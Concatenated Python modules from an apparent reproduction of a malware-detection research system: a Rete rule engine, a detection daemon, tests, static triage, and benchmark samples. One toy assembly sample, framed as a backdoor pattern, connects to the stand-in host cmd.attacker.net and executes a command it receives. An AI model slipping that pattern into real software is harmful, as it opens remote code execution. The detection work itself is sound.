    st.one_of(
        st.tuples(st.just("assert-ev"),
                  st.sampled_from(["a", "b", "c"]),
                  st.sampled_from(["k1", "k2"]),
                  st.integers(0, 4)),
        st.tuples(st.just("assert-st"),
                  st.sampled_from(["k1", "k2"]),
                  st.integers(0, 3)),
        st.tuples(st.just("retract"), st.integers(0, 7)),
        st.tuples(st.just("run")),
    ),
    min_size=1, max_size=24,
)


class TestLockstepEquivalence:
    @settings(max_examples=60, deadline=None)
    @given(OPS)
    def test_random_interleavings_match_naive(self, ops):
        engines = [build(False, lockstep_rules()),
                   build(True, lockstep_rules())]
        asserted = [[], []]
        for op in ops:
            for index, engine in enumerate(engines):
                if op[0] == "assert-ev":
                    _, kind, key, val = op
                    asserted[index].append(
                        ev(engine, kind=kind, key=key, val=val)
                    )
                elif op[0] == "assert-st":
                    _, key, lvl = op
                    asserted[index].append(
                        state(engine, key=key, lvl=lvl)
                    )
                elif op[0] == "retract":
                    live = [f for f in asserted[index]
                            if f.fact_id in engine._facts]
                    if live:
                        engine.retract(live[op[1] % len(live)])
                else:
                    engine.run()
            naive, rete = observe(engines[0]), observe(engines[1])
            assert naive == rete
