"""repro.serve — the always-on detection service.

Everything the paper's batch pipeline does — load a guest, run it under
Harrier, stream events into Secpert — wrapped in a daemon that accepts
submissions over a socket, executes them on a supervised pool of warm
:class:`~repro.api.Session` workers, and streams Secpert warnings back
to the submitting client *while the guest is still running*.

Layer map (one module per concern):

=================  ========================================================
``protocol``       wire format: submissions in, NDJSON event streams out
``admission``      bounded queue, per-tenant rate/tick token buckets
``streaming``      :class:`TapAnalyzer` — live warning callbacks, bit-
                   identical reports
``worker``         the per-process job loop around one warm Session
``supervisor``     dispatch, deadlines, crash containment, self-healing
                   restarts
``server``         the asyncio daemon (unix NDJSON + minimal HTTP/1.1)
``client``         blocking/async/HTTP clients
=================  ========================================================
"""

from repro.serve.admission import (
    AdmissionController,
    REASON_QUEUE_FULL,
    REASON_RATE_LIMITED,
    REASON_SHUTTING_DOWN,
    REASON_TICK_BUDGET,
    TokenBucket,
)
from repro.serve.client import (
    ServeClient,
    ServeError,
    http_get,
    http_get_text,
    http_submit,
    submit_async,
)
from repro.serve.protocol import (
    ProtocolError,
    SERVE_SCHEMA_VERSION,
    Submission,
    TERMINAL_KINDS,
)
from repro.serve.server import ServeDaemon, run_daemon
from repro.serve.streaming import TapAnalyzer, warning_to_wire
from repro.serve.supervisor import Supervisor, retry_delay

__all__ = [
    "AdmissionController",
    "ProtocolError",
    "REASON_QUEUE_FULL",
    "REASON_RATE_LIMITED",
    "REASON_SHUTTING_DOWN",
    "REASON_TICK_BUDGET",
    "SERVE_SCHEMA_VERSION",
    "ServeClient",
    "ServeDaemon",
    "ServeError",
    "Submission",
    "Supervisor",
    "TERMINAL_KINDS",
    "TapAnalyzer",
    "TokenBucket",
    "http_get",
    "http_get_text",
    "http_submit",
    "retry_delay",
    "run_daemon",
    "submit_async",
    "warning_to_wire",
]
