"""Execution-flow micro-benchmarks (paper Table 4).

Four programs, all calling execve with process names of different origin:

* ``execve_user``   — name from argv (user input)     -> no warning
* ``execve_hardcode`` — name hardcoded in the binary  -> Low
* ``execve_remote``  — name received over a socket    -> High
* ``execve_infrequent`` — hardcoded, after a long sleep in rarely-run
  code                                                -> Medium
"""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.core.hth import HTH

from typing import List

from repro.core.report import Verdict
from repro.kernel.network import ConversationPeer
from repro.programs.base import Workload

ATTACKER_HOST = "cmd.attacker.net"
ATTACKER_PORT = 5150

_USER_SOURCE = r"""
; execve the program named by argv[1] - trusted behavior
main:
    mov ebp, esp
    load eax, [ebp+2]      ; argv array
    load ebx, [eax+1]      ; argv[1]
    mov ecx, 0
    mov edx, 0
    call execve
    mov eax, 0
    ret
"""

_HARDCODE_SOURCE = r"""
; execve a hardcoded program name - Trojan downloader pattern
main:
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    call execve
    mov eax, 0
    ret
.data
prog: .asciz "/bin/ls"
"""

_REMOTE_SOURCE = r"""
; execve a program whose name arrives over a socket - backdoor pattern
main:
    mov ebx, host
    call gethostbyname
    mov ecx, eax
    call socket
    mov ebx, eax
    mov edx, 5150
    call connect_addr
    mov ecx, namebuf
    mov edx, 63
    call read_line
    mov ebx, namebuf
    mov ecx, 0
    mov edx, 0
    call execve
    mov eax, 0
    ret
.data
host: .asciz "cmd.attacker.net"
namebuf: .space 64
"""

_INFREQUENT_SOURCE = r"""
; like the hardcoded case, but the execve sits in rarely-executed code
; reached long after startup (the CIH/Chernobyl trigger-date pattern)
main:
    mov edi, 0
warmup:                    ; hot loop: these blocks run many times
    add edi, 1
    cmp edi, 40
    jl warmup
    mov ebx, 6000
    call sleep             ; ... time passes ...
trigger:                   ; cold block: runs exactly once
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    call execve
    mov eax, 0
    ret
.data
prog: .asciz "/bin/ls"
"""


def _remote_setup(hth: HTH) -> None:
    hth.network.add_peer(
        ATTACKER_HOST,
        ATTACKER_PORT,
        lambda: ConversationPeer("attacker", opening=b"/bin/date\n"),
    )


def table4_workloads() -> List[Workload]:
    return [
        Workload(
            name="User input",
            program_path="/bin/execve_user",
            source=_USER_SOURCE,
            description="execve of a program named on the command line",
            argv=["/bin/execve_user", "/bin/ls"],
            expected_verdict=Verdict.BENIGN,
        ),
        Workload(
            name="Hardcode",
            program_path="/bin/execve_hardcode",
            source=_HARDCODE_SOURCE,
            description="execve of a hardcoded program name",
            expected_verdict=Verdict.LOW,
            expected_rules=("check_execve",),
        ),
        Workload(
            name="Remote execve",
            program_path="/bin/execve_remote",
            source=_REMOTE_SOURCE,
            description="execve of a program name received from a socket",
            setup=_remote_setup,
            expected_verdict=Verdict.HIGH,
            expected_rules=("check_execve",),
        ),
        Workload(
            name="Infrequent execve",
            program_path="/bin/execve_infrequent",
            source=_INFREQUENT_SOURCE,
            description="hardcoded execve in rarely-executed code, late in "
                        "the run",
            expected_verdict=Verdict.MEDIUM,
            expected_rules=("check_execve",),
        ),
    ]
