"""TapAnalyzer: live warnings without perturbing the run.

The serve daemon's streaming promise rests on one invariant — tapping
Secpert is *observably transparent*: the tapped run's RunReport is
bit-identical to the untapped one, warnings reach the callback in
firing order, and a broken callback (dead client, full pipe) never
takes the run down.
"""

import json

from repro.api import Session
from repro.fleet.refs import WorkloadRef
from repro.secpert.policy import PolicyConfig
from repro.secpert.secpert import Secpert
from repro.serve.streaming import TapAnalyzer, warning_to_wire

#: A Table 4 Trojan that fires a HIGH execve warning mid-run.
TROJAN = WorkloadRef.from_registry("4", "Remote execve")


def _dumps(report):
    return json.dumps(report.to_dict(), sort_keys=True, default=str)


class TestTransparency:
    def test_tapped_report_is_bit_identical_to_untapped(self):
        session = Session()
        workload = TROJAN.resolve()
        plain = session.run_workload(workload)
        streamed = []
        tap = TapAnalyzer(
            Secpert(PolicyConfig()),
            lambda seq, w: streamed.append((seq, w)),
        )
        tapped = session.run_workload(workload, analyzer=tap)
        assert _dumps(tapped) == _dumps(plain)
        assert streamed, "the Trojan should have fired live warnings"

    def test_warnings_arrive_in_firing_order(self):
        session = Session()
        streamed = []
        tap = TapAnalyzer(
            Secpert(PolicyConfig()),
            lambda seq, w: streamed.append((seq, w)),
        )
        report = session.run_workload(TROJAN.resolve(), analyzer=tap)
        assert [seq for seq, _ in streamed] == list(range(len(streamed)))
        assert tap.emitted == len(streamed)
        # the live stream and the final report agree, rule for rule
        assert [w.rule for _, w in streamed] == [
            entry["rule"] for entry in report.to_dict()["warnings"]
        ]

    def test_wire_shape_matches_report_warnings(self):
        session = Session()
        streamed = []
        tap = TapAnalyzer(
            Secpert(PolicyConfig()),
            lambda seq, w: streamed.append(warning_to_wire(w)),
        )
        report = session.run_workload(TROJAN.resolve(), analyzer=tap)
        entries = report.to_dict()["warnings"]
        for wire, entry in zip(streamed, entries):
            assert wire["rule"] == entry["rule"]
            assert wire["severity"] == entry["severity"]
            assert wire["headline"] == entry["headline"]
            assert isinstance(wire["details"], list)


class TestBrokenCallback:
    def test_raising_callback_never_kills_the_run(self):
        session = Session()

        def explode(seq, warning):
            raise ConnectionResetError("client hung up")

        tap = TapAnalyzer(Secpert(PolicyConfig()), explode)
        plain = session.run_workload(TROJAN.resolve())
        tapped = session.run_workload(TROJAN.resolve(), analyzer=tap)
        assert tap.callback_broken
        # the run completed and the report still carries every warning
        assert _dumps(tapped) == _dumps(plain)

    def test_callback_goes_quiet_after_first_error(self):
        calls = []

        def explode_once(seq, warning):
            calls.append(seq)
            raise RuntimeError("boom")

        tap = TapAnalyzer(Secpert(PolicyConfig()), explode_once)
        session = Session()
        session.run_workload(TROJAN.resolve(), analyzer=tap)
        assert calls == [0]          # swallowed after the first failure
        assert tap.emitted >= 1      # but counting continued
