"""Rete-style incremental matching (the CLIPS algorithm, paper section 6.2.1).

The naive engine recomputes the whole agenda after every firing: each
``agenda()`` call re-runs ``match_lhs`` for every rule over every fact, an
O(rules x facts^k) join.  CLIPS — the shell the paper builds Secpert on —
never does that: its Rete network makes match cost proportional to the
*change* in working memory, which is what lets a detector keep up with a
high event rate.

This module is that network:

* **alpha layer** — :class:`AlphaMemory` instances index facts by template
  and by the hashable constant-slot constraints of the patterns that use
  them; memories are shared between patterns with the same constants.
* **beta layer** — one linear chain of nodes per production.
  :class:`JoinNode` keeps a token memory for the partial matches of the
  LHS prefix, hashed by the values of variables the pattern re-uses
  (the join keys), plus a per-node index of the alpha memory's facts by
  the same keys; a delta on either side only touches the matching bucket.
  :class:`TestNode` evaluates CLIPS ``(test ...)`` on token extension.
  :class:`NegNode` keeps a match *count* per token so ``Not`` flips
  incrementally on assert/retract instead of rescanning working memory.
* **agenda** — a maintained priority structure (:class:`ReteNetwork`'s
  entry dict plus a lazy-deletion heap) updated by activation /
  deactivation deltas.  The order key ``(-salience, -recency,
  rule_index, fact_ids)`` reproduces the naive engine's stable sort
  bit-identically: the naive agenda enumerates rules in definition order
  and fact tuples in ascending fact-id order, so for equal (salience,
  recency) the naive order *is* (rule_index, fact_ids).

``Pattern.match`` remains the single arbiter of match semantics — the
alpha constants and join-key hashing only prune candidates, and values
that are unhashable fall back to scan lists, so the network can never
accept or reject a pairing the naive matcher would not.

Propagation ordering (the classic Rete pitfalls):

* assert activates nodes deepest-first within a production, so a fact
  feeding two nodes of one chain is never joined twice and a ``Not``
  over the same template never double-counts it;
* retract removes the fact from every alpha memory first, then deletes
  dying tokens upstream-first (token creation order), and only then
  re-evaluates negation counts — so no transient activation is built
  from a half-retracted state.
"""

from __future__ import annotations

import heapq
from dataclasses import dataclass
from itertools import chain
from typing import Any, Dict, Iterable, List, Optional, Set, Tuple

from repro.expert.conditions import Not, P, Pattern, Test, V
from repro.expert.engine import Activation, Rule
from repro.expert.template import Fact

#: Sentinel for join keys containing unhashable values: those tokens and
#: facts live in scan lists and are checked against every candidate.
_UNINDEXED = object()


@dataclass
class MatchStats:
    """Always-on match instrumentation (cheap scalars, no registry needed).

    ``InferenceEngine`` keeps one of these regardless of whether a
    telemetry registry is attached; the serve worker ships it on the
    result wire so the supervisor can fold it into daemon-lifetime
    metrics.
    """

    engine: str = "rete"
    facts_asserted: int = 0
    match_calls: int = 0
    match_seconds: float = 0.0
    alpha_activations: int = 0
    beta_tokens_created: int = 0
    beta_tokens_live: int = 0
    agenda_size: int = 0
    agenda_peak: int = 0

    def to_dict(self) -> Dict[str, Any]:
        return {
            "engine": self.engine,
            "facts_asserted": self.facts_asserted,
            "match_calls": self.match_calls,
            "match_seconds": self.match_seconds,
            "alpha_activations": self.alpha_activations,
            "beta_tokens_created": self.beta_tokens_created,
            "beta_tokens_live": self.beta_tokens_live,
            "agenda_size": self.agenda_size,
            "agenda_peak": self.agenda_peak,
        }


class Token:
    """A partial match: the facts consumed by an LHS prefix.

    ``node`` is the node whose input memory holds the token (None once
    deleted); ``fact`` is the fact the creating join consumed (None for
    dummy / test / negation outputs); ``children`` are the downstream
    tokens derived from this one, deleted by cascade.
    """

    __slots__ = ("node", "parent", "fact", "bindings", "facts", "children",
                 "neg_count", "index_key")

    def __init__(
        self,
        node: Any,
        parent: Optional["Token"],
        fact: Optional[Fact],
        bindings: Dict[str, Any],
        facts: Tuple[Fact, ...],
    ) -> None:
        self.node = node
        self.parent = parent
        self.fact = fact
        self.bindings = bindings
        self.facts = facts
        # Ordered identity set (dict keys): the head node's dummy token
        # parents every position-0 token, so child removal must be O(1).
        self.children: Dict["Token", None] = {}
        self.neg_count = 0
        self.index_key: Any = _UNINDEXED


class AlphaMemory:
    """Facts of one template passing a set of constant-slot tests."""

    __slots__ = ("template", "literals", "facts", "successors")

    def __init__(self, template: str,
                 literals: Tuple[Tuple[str, Any], ...]) -> None:
        self.template = template
        self.literals = literals
        self.facts: Dict[int, Fact] = {}
        #: Join / negation nodes fed from this memory.
        self.successors: List[Any] = []

    def matches(self, fact: Fact) -> bool:
        if fact.name != self.template:
            return False
        values = fact.values
        for slot, expected in self.literals:
            if slot not in values or values[slot] != expected:
                return False
        return True


def _hashable_or_unindexed(key: Tuple[Any, ...]) -> Any:
    try:
        hash(key)
    except TypeError:
        return _UNINDEXED
    return key


class _AlphaFedNode:
    """Shared machinery for nodes with a left token memory and a right
    (alpha) input: hashed indexes on both sides, scan-list fallbacks."""

    __slots__ = ("network", "pattern", "alpha", "join_slots", "child",
                 "rule_index", "position", "tokens", "left_index",
                 "left_scan", "right_index", "right_scan")

    def __init__(self, network: "ReteNetwork", pattern: Pattern,
                 alpha: AlphaMemory, join_slots: Tuple[Tuple[str, str], ...],
                 rule_index: int, position: int) -> None:
        self.network = network
        self.pattern = pattern
        self.alpha = alpha
        self.join_slots = join_slots
        self.child: Any = None
        self.rule_index = rule_index
        self.position = position
        self.tokens: Dict[Token, None] = {}
        # Buckets are insertion-ordered dicts, not lists: iteration
        # order is identical, but removal is O(1) — head-position nodes
        # have no join slots, so every alpha fact shares one bucket and
        # a list.remove there would make retract O(working memory).
        self.left_index: Dict[Any, Dict[Token, None]] = {}
        self.left_scan: Dict[Token, None] = {}
        self.right_index: Dict[Any, Dict[int, Fact]] = {}
        self.right_scan: Dict[int, Fact] = {}
        # The alpha memory may predate this node (rule added after
        # facts): replay its contents into the right index.
        for fact in alpha.facts.values():
            self._index_right(fact)

    # -- join keys ------------------------------------------------------
    def _left_key(self, bindings: Dict[str, Any]) -> Any:
        return _hashable_or_unindexed(
            tuple(bindings[name] for _, name in self.join_slots)
        )

    def _right_key(self, fact: Fact) -> Any:
        values = fact.values
        try:
            key = tuple(values[slot] for slot, _ in self.join_slots)
        except KeyError:
            # Pattern constrains a slot this template lacks; the fact can
            # never match, but keep it reachable so match() says so.
            return _UNINDEXED
        return _hashable_or_unindexed(key)

    # -- memory maintenance ---------------------------------------------
    def _store_token(self, token: Token) -> None:
        key = self._left_key(token.bindings)
        token.index_key = key
        self.tokens[token] = None
        if key is _UNINDEXED:
            self.left_scan[token] = None
        else:
            self.left_index.setdefault(key, {})[token] = None

    def detach_token(self, token: Token) -> None:
        del self.tokens[token]
        if token.index_key is _UNINDEXED:
            del self.left_scan[token]
        else:
            bucket = self.left_index[token.index_key]
            del bucket[token]
            if not bucket:
                del self.left_index[token.index_key]

    def _index_right(self, fact: Fact) -> Any:
        key = self._right_key(fact)
        if key is _UNINDEXED:
            self.right_scan[fact.fact_id] = fact
        else:
            self.right_index.setdefault(key, {})[fact.fact_id] = fact
        return key

    def _unindex_right(self, fact: Fact) -> None:
        key = self._right_key(fact)
        if key is _UNINDEXED:
            del self.right_scan[fact.fact_id]
        else:
            bucket = self.right_index[key]
            del bucket[fact.fact_id]
            if not bucket:
                del self.right_index[key]

    # -- candidate pruning ----------------------------------------------
    def _right_candidates(self, token: Token) -> Iterable[Fact]:
        if token.index_key is _UNINDEXED:
            return list(self.alpha.facts.values())
        return chain(self.right_index.get(token.index_key, {}).values(),
                     self.right_scan.values())

    def _left_candidates(self, key: Any) -> Iterable[Token]:
        if key is _UNINDEXED:
            return list(self.tokens)
        return chain(self.left_index.get(key, ()), self.left_scan)


class JoinNode(_AlphaFedNode):
    """Extend each left token with every alpha fact the pattern accepts."""

    kind = "join"
    __slots__ = ()

    def add_token(self, token: Token) -> None:
        self._store_token(token)
        for fact in self._right_candidates(token):
            extended = self.pattern.match(fact, token.bindings)
            if extended is not None:
                self._emit(token, fact, extended)

    def right_assert(self, fact: Fact) -> None:
        key = self._index_right(fact)
        for token in list(self._left_candidates(key)):
            extended = self.pattern.match(fact, token.bindings)
            if extended is not None:
                self._emit(token, fact, extended)

    def right_retract(self, fact: Fact) -> None:
        # Dying tokens were already cascaded by the network sweep; only
        # the per-node index still references the fact.
        self._unindex_right(fact)

    def _emit(self, token: Token, fact: Fact,
              bindings: Dict[str, Any]) -> None:
        child = self.network._make_token(
            self.child, token, fact, bindings, token.facts + (fact,)
        )
        self.child.add_token(child)


class NegNode(_AlphaFedNode):
    """CLIPS ``(not ...)``: pass a token while its match count is zero."""

    kind = "neg"
    __slots__ = ()

    def add_token(self, token: Token) -> None:
        self._store_token(token)
        count = 0
        for fact in self._right_candidates(token):
            if self.pattern.match(fact, token.bindings) is not None:
                count += 1
        token.neg_count = count
        if count == 0:
            self._emit(token)

    def right_assert(self, fact: Fact) -> None:
        key = self._index_right(fact)
        for token in list(self._left_candidates(key)):
            if self.pattern.match(fact, token.bindings) is not None:
                token.neg_count += 1
                if token.neg_count == 1:
                    for child in list(token.children):
                        self.network._delete_token(child)

    def right_retract(self, fact: Fact) -> None:
        self._unindex_right(fact)
        for token in list(self._left_candidates(self._right_key(fact))):
            if self.pattern.match(fact, token.bindings) is not None:
                token.neg_count -= 1
                if token.neg_count == 0:
                    self._emit(token)

    def _emit(self, token: Token) -> None:
        child = self.network._make_token(
            self.child, token, None, token.bindings, token.facts
        )
        self.child.add_token(child)


class TestNode:
    """CLIPS ``(test ...)``: a predicate over the bindings so far."""

    kind = "test"
    __slots__ = ("network", "test", "child", "rule_index", "position")

    def __init__(self, network: "ReteNetwork", test: Test,
                 rule_index: int, position: int) -> None:
        self.network = network
        self.test = test
        self.child: Any = None
        self.rule_index = rule_index
        self.position = position

    def add_token(self, token: Token) -> None:
        if self.test.holds(token.bindings):
            child = self.network._make_token(
                self.child, token, None, token.bindings, token.facts
            )
            self.child.add_token(child)

    def detach_token(self, token: Token) -> None:
        pass


class ProductionNode:
    """Chain terminal: tokens arriving here are (de)activations."""

    kind = "production"
    __slots__ = ("network", "rule", "rule_index")

    def __init__(self, network: "ReteNetwork", rule: Rule,
                 rule_index: int) -> None:
        self.network = network
        self.rule = rule
        self.rule_index = rule_index

    def add_token(self, token: Token) -> None:
        self.network._activate(self.rule, self.rule_index, token)

    def detach_token(self, token: Token) -> None:
        self.network._deactivate(self.rule, token)


class _AgendaEntry:
    __slots__ = ("activation", "order", "live")

    def __init__(self, activation: Activation, order: Tuple) -> None:
        self.activation = activation
        self.order = order
        self.live = True


def _join_slots(pattern: Pattern,
                bound: Set[str]) -> Tuple[Tuple[str, str], ...]:
    """Slots whose variable is already bound upstream: the join keys."""
    return tuple(
        (slot, constraint.name)
        for slot, constraint in pattern.constraints.items()
        if isinstance(constraint, V) and constraint.name in bound
    )


class ReteNetwork:
    """The network plus the maintained agenda for one engine."""

    def __init__(self, engine: Any) -> None:
        self.engine = engine
        self._alpha_by_template: Dict[str, List[AlphaMemory]] = {}
        self._alpha_by_key: Dict[Tuple, AlphaMemory] = {}
        #: fact_id -> tokens whose creating join consumed the fact, in
        #: creation order (ancestors before descendants).
        self._tokens_by_fact: Dict[int, List[Token]] = {}
        self._entries: Dict[Tuple[str, Tuple[int, ...]], _AgendaEntry] = {}
        self._heap: List[Tuple[Tuple, int, _AgendaEntry]] = []
        self._seq = 0

    # -- construction ----------------------------------------------------
    def add_production(self, rule: Rule, rule_index: int) -> None:
        bound: Set[str] = set()
        nodes: List[Any] = []
        for position, element in enumerate(rule.lhs):
            if isinstance(element, Pattern):
                alpha = self._alpha_for(element)
                node = JoinNode(self, element, alpha,
                                _join_slots(element, bound),
                                rule_index, position)
                alpha.successors.append(node)
                for constraint in element.constraints.values():
                    if isinstance(constraint, V):
                        bound.add(constraint.name)
                if element.bind_as is not None:
                    bound.add(element.bind_as)
            elif isinstance(element, Test):
                node = TestNode(self, element, rule_index, position)
            elif isinstance(element, Not):
                alpha = self._alpha_for(element.pattern)
                node = NegNode(self, element.pattern, alpha,
                               _join_slots(element.pattern, bound),
                               rule_index, position)
                alpha.successors.append(node)
            else:
                raise TypeError(f"bad conditional element {element!r}")
            nodes.append(node)
        production = ProductionNode(self, rule, rule_index)
        for node, child in zip(nodes, nodes[1:] + [production]):
            node.child = child
        head = nodes[0] if nodes else production
        # Seed with the dummy token; for rules added after facts the
        # backfilled alpha memories replay existing working memory.
        dummy = self._make_token(head, None, None, {}, ())
        head.add_token(dummy)

    def _alpha_for(self, pattern: Pattern) -> AlphaMemory:
        literals = []
        for slot, constraint in pattern.constraints.items():
            if isinstance(constraint, (V, P)):
                continue
            try:
                hash(constraint)
            except TypeError:
                continue  # unhashable literal: left to match() at join time
            literals.append((slot, constraint))
        literals.sort(key=lambda item: item[0])
        key = (pattern.template, tuple(literals))
        memory = self._alpha_by_key.get(key)
        if memory is None:
            memory = AlphaMemory(pattern.template, tuple(literals))
            self._alpha_by_key[key] = memory
            self._alpha_by_template.setdefault(
                pattern.template, []
            ).append(memory)
            for fact in self.engine._facts.values():
                if memory.matches(fact):
                    memory.facts[fact.fact_id] = fact
        return memory

    # -- deltas ----------------------------------------------------------
    def assert_fact(self, fact: Fact) -> None:
        hit: List[AlphaMemory] = []
        for memory in self._alpha_by_template.get(fact.name, ()):
            if memory.matches(fact):
                memory.facts[fact.fact_id] = fact
                hit.append(memory)
        self.engine.stats.alpha_activations += len(hit)
        nodes = [node for memory in hit for node in memory.successors]
        # Deepest node first within each production: a fact feeding two
        # nodes of one chain must reach the deeper one before the
        # shallower join emits tokens that would see it twice.
        nodes.sort(key=lambda n: (n.rule_index, -n.position))
        for node in nodes:
            node.right_assert(fact)

    def retract_fact(self, fact: Fact) -> None:
        fact_id = fact.fact_id
        hit: List[AlphaMemory] = []
        for memory in self._alpha_by_template.get(fact.name, ()):
            if memory.facts.pop(fact_id, None) is not None:
                hit.append(memory)
        # Creation order puts ancestors first, so each cascade runs
        # before its descendants are visited (they are already dead).
        for token in self._tokens_by_fact.pop(fact_id, ()):
            if token.node is not None:
                self._delete_token(token)
        nodes = [node for memory in hit for node in memory.successors]
        nodes.sort(key=lambda n: (n.rule_index, n.position))
        for node in nodes:
            node.right_retract(fact)

    # -- tokens ----------------------------------------------------------
    def _make_token(self, node: Any, parent: Optional[Token],
                    fact: Optional[Fact], bindings: Dict[str, Any],
                    facts: Tuple[Fact, ...]) -> Token:
        token = Token(node, parent, fact, bindings, facts)
        if parent is not None:
            parent.children[token] = None
        if fact is not None:
            self._tokens_by_fact.setdefault(
                fact.fact_id, []
            ).append(token)
        stats = self.engine.stats
        stats.beta_tokens_created += 1
        stats.beta_tokens_live += 1
        return token

    def _delete_token(self, token: Token) -> None:
        while token.children:
            self._delete_token(next(reversed(token.children)))
        if token.parent is not None:
            del token.parent.children[token]
        node = token.node
        token.node = None
        node.detach_token(token)
        if token.fact is not None:
            bucket = self._tokens_by_fact.get(token.fact.fact_id)
            if bucket is not None:
                bucket.remove(token)
        self.engine.stats.beta_tokens_live -= 1

    # -- agenda ----------------------------------------------------------
    def _activate(self, rule: Rule, rule_index: int, token: Token) -> None:
        engine = self.engine
        if rule.name in engine.quarantined:
            return
        fact_ids = tuple(f.fact_id for f in token.facts)
        key = (rule.name, fact_ids)
        if key in engine._fired:
            return  # refraction: a Not flip may re-derive a fired match
        activation = Activation(
            rule=rule, facts=token.facts, bindings=dict(token.bindings)
        )
        order = (-rule.salience, -activation.recency(), rule_index, fact_ids)
        stale = self._entries.get(key)
        if stale is not None:
            stale.live = False
        entry = _AgendaEntry(activation, order)
        self._entries[key] = entry
        heapq.heappush(self._heap, (order, self._seq, entry))
        self._seq += 1

    def _deactivate(self, rule: Rule, token: Token) -> None:
        key = (rule.name, tuple(f.fact_id for f in token.facts))
        entry = self._entries.pop(key, None)
        if entry is not None:
            entry.live = False

    def pop_best(self) -> Optional[Activation]:
        """Remove and return the highest-priority live activation."""
        quarantined = self.engine.quarantined
        heap = self._heap
        while heap:
            entry = heap[0][2]
            if not entry.live:
                heapq.heappop(heap)
                continue
            heapq.heappop(heap)
            entry.live = False
            activation = entry.activation
            self._entries.pop(activation.key(), None)
            if activation.rule.name in quarantined:
                continue  # pending entries of a rule quarantined mid-run
            return activation
        return None

    def agenda(self) -> List[Activation]:
        """Snapshot in firing order (mirrors the naive ``agenda()``)."""
        quarantined = self.engine.quarantined
        entries = [
            entry for entry in self._entries.values()
            if entry.activation.rule.name not in quarantined
        ]
        entries.sort(key=lambda entry: entry.order)
        return [entry.activation for entry in entries]

    def agenda_size(self) -> int:
        return len(self._entries)
