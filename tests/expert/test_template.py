"""Template/Fact tests."""

import pytest

from repro.expert import Fact, SlotSpec, Template, TemplateError


@pytest.fixture
def template():
    return Template(
        "event",
        (
            SlotSpec("name"),
            SlotSpec("count", default=0),
            SlotSpec("origins", multi=True),
        ),
    )


class TestTemplate:
    def test_make_fills_defaults(self, template):
        fact = template.make(name="x")
        assert fact["count"] == 0
        assert fact["origins"] == ()

    def test_make_rejects_unknown_slot(self, template):
        with pytest.raises(TemplateError):
            template.make(bogus=1)

    def test_duplicate_slots_rejected(self):
        with pytest.raises(TemplateError):
            Template("t", (SlotSpec("a"), SlotSpec("a")))

    def test_define_shorthand(self):
        t = Template.define("t", "a", "b", multi=("c",))
        fact = t.make(a=1, b=2, c=[3, 4])
        assert fact["c"] == (3, 4)

    def test_multislot_normalization(self, template):
        assert template.make(name="x", origins="solo")["origins"] == ("solo",)
        assert template.make(name="x", origins=None)["origins"] == ()
        assert template.make(name="x", origins=[1, 2])["origins"] == (1, 2)


class TestFact:
    def test_get_unknown_slot_raises(self, template):
        fact = template.make(name="x")
        with pytest.raises(TemplateError):
            fact.get("bogus")

    def test_items_and_name(self, template):
        fact = template.make(name="x", count=3)
        assert fact.name == "event"
        assert dict(fact.items())["count"] == 3

    def test_repr_shows_id(self, template):
        fact = template.make(name="x")
        assert "f-?" in repr(fact)
        fact.fact_id = 7
        assert "f-7" in repr(fact)
