"""Static triage: profile an assembled image without running it.

The triage front-end runs *before* execution (and before the cache
lookup's result is even known): a pure function of the two-pass
assembler's output.  It answers two questions the execution engine
cannot answer cheaply:

* *what does this thing look like?* — section layout, data entropy,
  extracted strings and IOC-like literals, an opcode census, and a
  syscall-number census recovered from the ``mov eax, N`` / ``int 0x80``
  idiom the guest toolchain emits;
* *what is it near?* — a 64-bit simhash over opcode n-grams, a
  locality-sensitive digest under which near-duplicate variants (one
  patched constant, a renamed symbol) land a small Hamming distance
  apart.  Fleet sweeps use it to order shards so variants of one family
  share a worker (and its warm block cache); operators use it to spot
  clusters in submitted traffic.

Everything here is deterministic and hash()-free for the same reason the
cache keys are: two processes must profile the same image identically.
"""

from __future__ import annotations

import hashlib
import math
import re
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Tuple

from repro.isa.image import Image
from repro.isa.instructions import Imm, Instruction, Opcode, Reg
from repro.kernel.syscalls import SYSCALL_NAMES

#: Literal shapes worth flagging during triage (filesystem paths,
#: host:port endpoints, URLs, dotted hostnames) — the static cousins of
#: the runtime rules' interesting names.
_IOC_PATTERNS: Tuple[Tuple[str, re.Pattern], ...] = (
    ("path", re.compile(r"^/[\w./-]+$")),
    ("endpoint", re.compile(r"^[\w.-]+:\d{1,5}$")),
    ("url", re.compile(r"^[a-z]+://[\w./:-]+$")),
    ("hostname", re.compile(r"^[\w-]+(\.[\w-]+)+$")),
)

_MIN_STRING = 4
_NGRAM = 3


@dataclass(frozen=True)
class TriageProfile:
    """The static profile of one assembled image."""

    name: str
    text_size: int
    data_size: int
    symbol_count: int
    entropy: float
    opcode_census: Tuple[Tuple[str, int], ...]
    syscall_census: Tuple[Tuple[str, int], ...]
    strings: Tuple[str, ...]
    iocs: Tuple[Tuple[str, str], ...]
    simhash: int

    def to_dict(self) -> Dict[str, object]:
        return {
            "name": self.name,
            "text_size": self.text_size,
            "data_size": self.data_size,
            "symbol_count": self.symbol_count,
            "entropy": round(self.entropy, 4),
            "opcode_census": [list(pair) for pair in self.opcode_census],
            "syscall_census": [list(pair) for pair in self.syscall_census],
            "strings": list(self.strings),
            "iocs": [list(pair) for pair in self.iocs],
            "simhash": f"{self.simhash:016x}",
        }


def shannon_entropy(values: Sequence[int]) -> float:
    """Shannon entropy (bits/byte) of the low bytes of ``values``."""
    if not values:
        return 0.0
    counts: Dict[int, int] = {}
    for value in values:
        byte = value & 0xFF
        counts[byte] = counts.get(byte, 0) + 1
    total = len(values)
    entropy = 0.0
    for count in counts.values():
        p = count / total
        entropy -= p * math.log2(p)
    return entropy


def extract_strings(
    image: Image, min_length: int = _MIN_STRING
) -> List[str]:
    """Printable-ASCII runs in the data section, lowest address first."""
    strings: List[str] = []
    run: List[str] = []
    last_offset: Optional[int] = None

    def flush() -> None:
        if len(run) >= min_length:
            strings.append("".join(run))
        run.clear()

    for offset in sorted(image.data):
        byte = image.data[offset] & 0xFF
        contiguous = last_offset is not None and offset == last_offset + 1
        if not contiguous:
            flush()
        if 0x20 <= byte < 0x7F:
            run.append(chr(byte))
        else:
            flush()
        last_offset = offset
    flush()
    return strings


def classify_iocs(strings: Sequence[str]) -> List[Tuple[str, str]]:
    """``(kind, literal)`` pairs for strings matching an IOC shape."""
